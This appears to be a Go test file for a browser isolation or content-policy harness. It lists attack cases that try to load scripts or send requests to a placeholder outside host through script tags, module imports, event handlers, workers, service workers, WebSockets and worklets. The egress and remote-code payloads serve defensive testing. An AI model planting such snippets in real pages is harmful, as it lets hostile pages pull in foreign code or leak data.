package main

import "strings"

// scriptAttacks returns attacks with code from elsewhere.
func scriptAttacks() []attackCase {
	const g = "script"
	return []attackCase{
		markupAttack(g, "script", "<script src=@url@.js></script>"),
		markupAttack(g, "module", "<script type=module src=@url@.js></script>"),
		markupAttack(g, "import", "<script type=module>import '@url@.js'</script>"),
		markupAttack(g, "import of an import", "<script type=module src=/a.js></script>").with("a.js", "import '@url@.js'"),
		scriptAttack(g, "dynamic import", "import('@url@.js')"),
		markupAttack(g, "import map", `<script type=importmap>{"imports":{"x":"@url@.js"}}</script><script type=module>import 'x'</script>`),
		markupAttack(g, "json module", "<script type=module>import a from '@url@.json' with {type:'json'}</script>"),
		markupAttack(g, "css module", "<script type=module>import a from '@url@.css' with {type:'css'}</script>"),
		scriptAttack(g, "document.write", "document.write('<script src=@url@.js></scr'+'ipt>')"),
		markupAttack(g, "event handler", "<img src=x: onerror=\"new Image().src='@url@'\">"),
		markupAttack(g, "integrity", "<script src=@url@.js integrity=sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= crossorigin></script>"),
	}
}

// workerAttacks returns attacks with scripts that run beside the page.
func workerAttacks() []attackCase {
	const g = "worker"
	worker := func(name, body string) attackCase {
		return scriptAttack(g, name, "new Worker('/w.js')").with("w.js", body)
	}
	register := "navigator.serviceWorker.register('/sw.js')"
	service := func(name, body string) attackCase {
		a := scriptAttack(g, name, register).with("sw.js", body)
		a.Secure = true
		return a
	}
	return append([]attackCase{
		worker("fetch", "fetch('@url@',{mode:'no-cors'})"),
		worker("importScripts", "importScripts('@url@.js')"),
		worker("XMLHttpRequest", "let x=new XMLHttpRequest;x.open('GET','@url@',false);x.send()"),
		worker("WebSocket", "new WebSocket('@sock@')"),
		worker("EventSource", "new EventSource('@url@')"),
		worker("worker in a worker", "new Worker('/v.js')").with("v.js", "fetch('@url@',{mode:'no-cors'})"),
		scriptAttack(g, "module worker", "new Worker('/w.js',{type:'module'})").with("w.js", "import '@url@.js'"),
		scriptAttack(g, "blob worker", "new Worker(URL.createObjectURL(new Blob([\"importScripts('@url@.js')\"])))"),
		scriptAttack(g, "data worker", "new Worker(\"data:text/javascript,importScripts('@url@.js')\")"),
		scriptAttack(g, "shared worker fetch", "new SharedWorker('/w.js')").with("w.js", "fetch('@url@',{mode:'no-cors'})"),
		scriptAttack(g, "shared worker WebSocket", "new SharedWorker('/w.js')").with("w.js", "new WebSocket('@sock@')"),
		scriptAttack(g, "shared worker importScripts", "new SharedWorker('/w.js')").with("w.js", "importScripts('@url@.js')"),
		scriptAttack(g, "worker redirected", "new Worker('/hop/302')").never("Chromium loads workers from the page's own origin only"),
	}, overTLS(
		service("service worker fetch", "fetch('@url@',{mode:'no-cors'})"),
		service("service worker importScripts", "importScripts('@url@.js')"),
		service("service worker WebSocket", "new WebSocket('@sock@')"),
		service("service worker WebTransport", "new WebTransport('@https@')"),
		service("service worker module", "import '@url@.js'").replacing(register, "navigator.serviceWorker.register('/sw.js',{type:'module'})"),
		service("service worker answers a frame", "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>{if(e.request.url.endsWith('two'))e.respondWith(Response.redirect('@url@'))}").
			replacing(register, register+";navigator.serviceWorker.oncontrollerchange=()=>{let f=document.createElement('iframe');f.src='/two';document.body.append(f)}"),
		service("service worker passes on", "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>{if(e.request.url.endsWith('two'))e.respondWith(fetch('@url@',{mode:'no-cors'}))}").
			replacing(register, register+";navigator.serviceWorker.oncontrollerchange=()=>fetch('/two',{mode:'no-cors'})"),
		service("service worker cache", "oninstall=e=>e.waitUntil(caches.open('a').then(c=>c.addAll(['@url@'])))"),
		scriptAttack(g, "paint worklet", "CSS.paintWorklet.addModule('@url@.js')"),
		scriptAttack(g, "audio worklet", "new AudioContext().audioWorklet.addModule('@url@.js')"),
		scriptAttack(g, "audio worklet, import", "new AudioContext().audioWorklet.addModule('/w.js')").with("w.js", "import '@url@.js'"),
	)...)
}

// replacing changes the page's text.
func (a attackCase) replacing(old, text string) attackCase {
	a.Page = strings.Replace(a.Page, old, text, 1)
	return a
}
